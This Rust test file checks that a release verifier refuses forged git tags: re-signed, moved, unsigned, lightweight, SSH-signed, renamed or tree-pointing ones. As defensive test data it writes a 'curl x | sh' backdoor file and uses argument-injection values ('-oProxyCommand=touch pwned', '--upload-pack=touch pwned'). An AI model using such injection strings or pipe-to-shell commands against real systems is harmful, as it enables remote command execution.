//! The source stage against real git repositories: the demo release's signed bundle,
//! and copies of it whose tag was re-signed, moved, stripped or replaced.
//! git and gpg are the real tools; gpg only *makes* the hostile tags (with throwaway
//! keys in a temporary GNUPGHOME), verification never touches it.

use std::path::{Path, PathBuf};
use std::process::Command;

use url::Url;
use verify_release::exit::{Exit, Failure};
use verify_release::release::{EpochRule, SourceRef};
use verify_release::source::{fetch_source, source_date_epoch, SourceError};

const DEMO_SIGNER: &str = "B1F9C666D3985B7D3B0C5B81252D077014915BBD";
const DEMO_COMMIT: &str = "80b918a3fdb62325085e12783639e85b6ec6a256";
const DEMO_SDE: i64 = 1_735_689_600;

fn demo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/demo")
}

fn demo_cert() -> Vec<u8> {
    std::fs::read(demo().join("keys/demo-signing-TEST-ONLY.asc")).unwrap()
}

fn source_ref(repo: &Path, commit: Option<&str>) -> SourceRef {
    SourceRef {
        repo: Url::from_file_path(repo).unwrap(),
        tag: "1.0".into(),
        commit: commit.map(str::to_owned),
        source_date_epoch: EpochRule::Recipe,
    }
}

fn fetch(src: &SourceRef, work: &Path) -> Result<verify_release::source::Checkout, SourceError> {
    fetch_source(src, &[DEMO_SIGNER.to_owned()], &demo_cert(), work)
}

/// Runs a command, panicking with its output when it fails.
fn run(cmd: &mut Command) -> String {
    let out = cmd.output().unwrap_or_else(|e| panic!("{cmd:?}: {e}"));
    assert!(
        out.status.success(),
        "{cmd:?} failed: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// A writable clone of the demo repository plus a private GNUPGHOME.
struct Forge {
    _tmp: tempfile::TempDir,
    repo: PathBuf,
    gnupg: PathBuf,
    work: PathBuf,
}

impl Forge {
    fn new() -> Forge {
        let tmp = tempfile::tempdir().unwrap();
        let repo = tmp.path().join("repo");
        let gnupg = tmp.path().join("gnupg");
        std::fs::create_dir(&gnupg).unwrap();
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&gnupg, std::fs::Permissions::from_mode(0o700)).unwrap();
        }
        run(Command::new("git")
            .args(["clone", "-q", "--"])
            .arg(demo().join("source/demo-source.bundle"))
            .arg(&repo));
        let work = tmp.path().join("work");
        Forge {
            _tmp: tmp,
            repo,
            gnupg,
            work,
        }
    }

    fn git(&self) -> Command {
        let mut c = Command::new("git");
        c.env("GNUPGHOME", &self.gnupg)
            .env("GIT_AUTHOR_DATE", "@1735700000 +0000")
            .env("GIT_COMMITTER_DATE", "@1735700000 +0000")
            .args(["-c", "user.name=Mallory", "-c", "user.email=m@invalid"])
            .args(["-c", "gpg.program=gpg", "-C"])
            .arg(&self.repo);
        c
    }

    fn gpg(&self) -> Command {
        let mut c = Command::new("gpg");
        c.env("GNUPGHOME", &self.gnupg).args([
            "--batch",
            "--pinentry-mode",
            "loopback",
            "--passphrase",
            "",
        ]);
        c
    }

    /// A fresh signing key nobody pinned; returns its fingerprint.
    fn throwaway_key(&self) -> String {
        run(self.gpg().args([
            "--quick-gen-key",
            "Throwaway (TEST) <throwaway@invalid>",
            "ed25519",
            "sign",
            "0",
        ]));
        self.first_fpr()
    }

    /// The demo's own (test-only, committed) secret key.
    fn demo_key(&self) -> String {
        run(self
            .gpg()
            .arg("--import")
            .arg(demo().join("keys/demo-signing-TEST-ONLY.sec.asc")));
        self.first_fpr()
    }

    fn first_fpr(&self) -> String {
        let out = run(self.gpg().args(["--with-colons", "--list-secret-keys"]));
        out.lines()
            .find_map(|l| l.strip_prefix("fpr:::::::::"))
            .map(|f| f.trim_end_matches(':').to_owned())
            .expect("a key was made")
    }

    fn new_commit(&self) -> String {
        std::fs::write(self.repo.join("backdoor.sh"), "curl x | sh\n").unwrap();
        run(self.git().args(["add", "backdoor.sh"]));
        run(self.git().args(["commit", "-q", "-m", "innocent change"]));
        run(self.git().args(["rev-parse", "HEAD"]))
    }
}

fn assert_authenticity(
    result: Result<verify_release::source::Checkout, SourceError>,
    what: &str,
) -> SourceError {
    let err = result.expect_err(what);
    assert_eq!(err.exit(), Exit::Authenticity, "{what}: {err}");
    err
}

#[test]
fn demo_tag_verifies_and_checks_out_the_signed_commit() {
    let tmp = tempfile::tempdir().unwrap();
    let bundle = demo().join("source/demo-source.bundle");
    let co = fetch(&source_ref(&bundle, Some(DEMO_COMMIT)), tmp.path()).unwrap();
    assert_eq!(co.commit, DEMO_COMMIT);
    assert_eq!(co.tag, "1.0");
    assert_eq!(co.signer.primary_fingerprint, DEMO_SIGNER);
    assert!(co.submodules.is_empty());
    // What git itself says about the checkout.
    let git = |args: &[&str]| run(Command::new("git").arg("-C").arg(&co.path).args(args));
    assert_eq!(git(&["rev-parse", "HEAD"]), DEMO_COMMIT);
    assert_eq!(git(&["rev-parse", "HEAD^{tree}"]), co.tree);
    assert_eq!(git(&["rev-parse", "refs/tags/1.0"]), co.tag_object);
    assert_eq!(git(&["status", "--porcelain"]), "");
    assert_eq!(co.tag_message.as_bytes(), b"tagging version 1.0\n");
    assert!(co
        .tagger
        .as_ref()
        .unwrap()
        .to_string()
        .starts_with("Demo Developer <"));
    assert!(co.path.join("release.toml").is_file());
    assert_eq!(
        source_date_epoch(&EpochRule::Recipe, &co.path).unwrap(),
        DEMO_SDE
    );
    // The record serializes (for the JSON report).
    let json = serde_json::to_value(&co).unwrap();
    assert_eq!(json["commit"], DEMO_COMMIT);
    // A second run in the same work directory replaces our own earlier checkout.
    let again = fetch(&source_ref(&bundle, Some(DEMO_COMMIT)), tmp.path()).unwrap();
    assert_eq!(again.path, co.path);
    assert_eq!(again.tree, co.tree);
    // Without a recorded commit, the signed tag alone decides.
    let tmp2 = tempfile::tempdir().unwrap();
    let co2 = fetch(&source_ref(&bundle, None), tmp2.path()).unwrap();
    assert_eq!(co2.commit, DEMO_COMMIT);
}

#[test]
fn tag_resigned_by_another_key_is_refused_and_removed() {
    let f = Forge::new();
    let key = f.throwaway_key();
    run(f.git().args([
        "tag",
        "-f",
        "-s",
        "-u",
        &key,
        "-m",
        "tagging version 1.0",
        "1.0",
    ]));
    let err = assert_authenticity(
        fetch(&source_ref(&f.repo, Some(DEMO_COMMIT)), &f.work),
        "re-signed tag",
    );
    assert!(matches!(err, SourceError::TagSignature { .. }), "{err}");
    assert!(
        err.to_string()
            .contains("not a key of the pinned certificate"),
        "{err}"
    );
    assert!(
        !f.work.join("source").exists(),
        "unverified checkout left behind"
    );
}

#[test]
fn tag_moved_to_another_commit_is_refused() {
    let f = Forge::new();
    let evil = f.new_commit();
    // Signed with a stranger's key: the signature fails (no commit recorded).
    let key = f.throwaway_key();
    run(f.git().args([
        "tag",
        "-f",
        "-s",
        "-u",
        &key,
        "-m",
        "tagging version 1.0",
        "1.0",
        &evil,
    ]));
    assert_authenticity(
        fetch(&source_ref(&f.repo, None), &f.work),
        "moved, foreign key",
    );
    // Even signed by the genuine key (stolen), the recorded commit catches it.
    let demo = f.demo_key();
    run(f.git().args([
        "tag",
        "-f",
        "-s",
        "-u",
        &demo,
        "-m",
        "tagging version 1.0",
        "1.0",
        &evil,
    ]));
    let err = assert_authenticity(
        fetch(&source_ref(&f.repo, Some(DEMO_COMMIT)), &f.work),
        "moved, pinned key",
    );
    match &err {
        SourceError::CommitMismatch {
            expected, found, ..
        } => {
            assert_eq!(expected, DEMO_COMMIT);
            assert_eq!(found, &evil);
        }
        other => panic!("expected a commit mismatch, got {other}"),
    }
    // Unsigned and moved.
    run(f
        .git()
        .args(["tag", "-f", "-a", "-m", "tagging version 1.0", "1.0", &evil]));
    assert_authenticity(
        fetch(&source_ref(&f.repo, None), &f.work),
        "moved, unsigned",
    );
}

#[test]
fn catalog_commit_mismatch_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let bundle = demo().join("source/demo-source.bundle");
    let other = "1111111111111111111111111111111111111111";
    let err = assert_authenticity(
        fetch(&source_ref(&bundle, Some(other)), tmp.path()),
        "commit mismatch",
    );
    assert!(matches!(err, SourceError::CommitMismatch { .. }), "{err}");
    assert!(err.to_string().contains(other), "{err}");
}

#[test]
fn unsigned_and_lightweight_tags_are_refused() {
    let f = Forge::new();
    run(f.git().args([
        "tag",
        "-f",
        "-a",
        "-m",
        "tagging version 1.0",
        "1.0",
        DEMO_COMMIT,
    ]));
    let err = assert_authenticity(
        fetch(&source_ref(&f.repo, Some(DEMO_COMMIT)), &f.work),
        "unsigned",
    );
    assert!(matches!(err, SourceError::Unsigned { .. }), "{err}");
    run(f.git().args(["tag", "-f", "1.0", DEMO_COMMIT]));
    let err = assert_authenticity(
        fetch(&source_ref(&f.repo, Some(DEMO_COMMIT)), &f.work),
        "lightweight",
    );
    assert!(matches!(err, SourceError::Lightweight { .. }), "{err}");
    assert!(err.to_string().contains("lightweight"), "{err}");
}

#[test]
fn ssh_signed_tag_is_refused_clearly() {
    let f = Forge::new();
    let key = f.work.with_file_name("ssh-key");
    run(Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
        .arg(&key));
    run(f
        .git()
        .args(["-c", "gpg.format=ssh", "-c"])
        .arg(format!("user.signingkey={}", key.display()))
        .args([
            "tag",
            "-f",
            "-s",
            "-m",
            "tagging version 1.0",
            "1.0",
            DEMO_COMMIT,
        ]));
    let err = assert_authenticity(
        fetch(&source_ref(&f.repo, Some(DEMO_COMMIT)), &f.work),
        "ssh",
    );
    assert!(err.to_string().contains("SSH signature"), "{err}");
}

#[test]
fn hostile_locations_and_names_are_refused_before_git_runs() {
    let tmp = tempfile::tempdir().unwrap();
    let mut src = source_ref(&demo().join("source/demo-source.bundle"), None);
    src.repo = Url::parse("ssh://-oProxyCommand=touch%20pwned/x").unwrap();
    let err = fetch(&src, tmp.path()).unwrap_err();
    assert!(matches!(err, SourceError::BadRepoUrl { .. }), "{err}");
    assert_eq!(err.exit(), Exit::Usage);
    let err = verify_release::source::repo_url("-uhttps://x.invalid/r").unwrap_err();
    assert!(err.to_string().contains("starts with '-'"), "{err}");
    let mut src = source_ref(&demo().join("source/demo-source.bundle"), None);
    src.tag = "--upload-pack=touch pwned".into();
    let err = fetch(&src, tmp.path()).unwrap_err();
    assert!(matches!(err, SourceError::BadTagName { .. }), "{err}");
    assert!(!tmp.path().join("source").exists());
}

#[test]
fn missing_repository_is_incomplete_and_existing_checkout_is_kept() {
    let tmp = tempfile::tempdir().unwrap();
    let src = source_ref(&tmp.path().join("nowhere.bundle"), None);
    let err = fetch(&src, &tmp.path().join("w")).unwrap_err();
    assert_eq!(err.exit(), Exit::Incomplete, "{err}");
    let busy = tmp.path().join("busy");
    std::fs::create_dir_all(busy.join("source")).unwrap();
    std::fs::write(busy.join("source/keep-me"), "x").unwrap();
    let src = source_ref(&demo().join("source/demo-source.bundle"), None);
    let err = fetch(&src, &busy).unwrap_err();
    assert!(matches!(err, SourceError::CheckoutExists { .. }), "{err}");
    assert!(busy.join("source/keep-me").exists());
}

#[test]
fn submodules_are_checked_out_at_the_recorded_commits() {
    let f = Forge::new();
    // A small repository to embed, local (file transport is allowed for local sources).
    let sub = f.work.with_file_name("sub");
    run(Command::new("git").args(["init", "-q"]).arg(&sub));
    std::fs::write(sub.join("lib.txt"), "library\n").unwrap();
    let g = |dir: &Path, args: &[&str]| {
        run(Command::new("git")
            .args([
                "-c",
                "user.name=D",
                "-c",
                "user.email=d@invalid",
                "-c",
                "protocol.file.allow=always",
                "-C",
            ])
            .arg(dir)
            .args(args))
    };
    g(&sub, &["add", "lib.txt"]);
    g(&sub, &["commit", "-q", "-m", "lib"]);
    let sub_commit = g(&sub, &["rev-parse", "HEAD"]);
    g(
        &f.repo,
        &[
            "submodule",
            "add",
            "-q",
            sub.to_str().unwrap(),
            "vendor/lib",
        ],
    );
    g(&f.repo, &["commit", "-q", "-m", "add submodule"]);
    let commit = g(&f.repo, &["rev-parse", "HEAD"]);
    let demo = f.demo_key();
    run(f.git().args([
        "tag",
        "-f",
        "-s",
        "-u",
        &demo,
        "-m",
        "tagging version 1.0",
        "1.0",
        &commit,
    ]));
    let co = fetch(&source_ref(&f.repo, Some(&commit)), &f.work).unwrap();
    assert_eq!(co.submodules.len(), 1);
    assert_eq!(co.submodules[0].path.to_string(), "vendor/lib");
    assert_eq!(co.submodules[0].commit, sub_commit);
    assert_eq!(
        std::fs::read_to_string(co.path.join("vendor/lib/lib.txt")).unwrap(),
        "library\n"
    );
}

#[test]
fn epoch_rules_read_the_tree_and_refuse_symlinks() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    assert_eq!(source_date_epoch(&EpochRule::Fixed(42), root).unwrap(), 42);
    let err = source_date_epoch(&EpochRule::Recipe, root).unwrap_err();
    assert_eq!(err.exit(), Exit::Incomplete);
    std::fs::write(
        root.join("release.toml"),
        "format = 1\nsource_date_epoch = \"soon\"\n",
    )
    .unwrap();
    let err = source_date_epoch(&EpochRule::Recipe, root).unwrap_err();
    assert!(err.to_string().contains("non-negative integer"), "{err}");
    std::fs::create_dir(root.join("debian")).unwrap();
    std::fs::write(
        root.join("debian/changelog"),
        "tails (3.3) unstable; urgency=medium\n\n  * Major changes\n\n -- Tails developers <tails@boum.org>  Tue, 14 Nov 2017 04:53:27 +0100\n\ntails (3.2) unstable; urgency=medium\n\n  * x\n\n -- Tails developers <tails@boum.org>  Mon, 25 Sep 2017 22:23:01 +0200\n",
    )
    .unwrap();
    assert_eq!(
        source_date_epoch(&EpochRule::DebianChangelog, root).unwrap(),
        1_510_631_607
    );
    #[cfg(unix)]
    {
        let other = tempfile::tempdir().unwrap();
        std::fs::write(other.path().join("release.toml"), "source_date_epoch = 7\n").unwrap();
        std::fs::remove_file(root.join("release.toml")).unwrap();
        std::os::unix::fs::symlink(other.path().join("release.toml"), root.join("release.toml"))
            .unwrap();
        let err = source_date_epoch(&EpochRule::Recipe, root).unwrap_err();
        assert!(err.to_string().contains("symlink"), "{err}");
    }
}

#[test]
fn signed_tag_of_a_tree_or_under_another_name_is_refused() {
    let f = Forge::new();
    let demo = f.demo_key();
    // Signed by the genuine key, but naming a tree instead of a commit.
    let tree = run(f
        .git()
        .args(["rev-parse", &format!("{DEMO_COMMIT}^{{tree}}")]));
    run(f.git().args([
        "tag",
        "-f",
        "-s",
        "-u",
        &demo,
        "-m",
        "tagging version 1.0",
        "1.0",
        &tree,
    ]));
    let err = assert_authenticity(fetch(&source_ref(&f.repo, None), &f.work), "tag of a tree");
    assert!(matches!(err, SourceError::NotACommit { .. }), "{err}");
    // A genuine signed tag "0.9" placed at refs/tags/1.0.
    run(f.git().args([
        "tag",
        "-s",
        "-u",
        &demo,
        "-m",
        "tagging version 0.9",
        "0.9",
        DEMO_COMMIT,
    ]));
    let old = run(f.git().args(["rev-parse", "refs/tags/0.9"]));
    run(f.git().args(["update-ref", "refs/tags/1.0", &old]));
    let err = assert_authenticity(
        fetch(&source_ref(&f.repo, Some(DEMO_COMMIT)), &f.work),
        "renamed tag",
    );
    assert!(matches!(err, SourceError::TagNameMismatch { .. }), "{err}");
    assert!(err.to_string().contains("0.9"), "{err}");
}
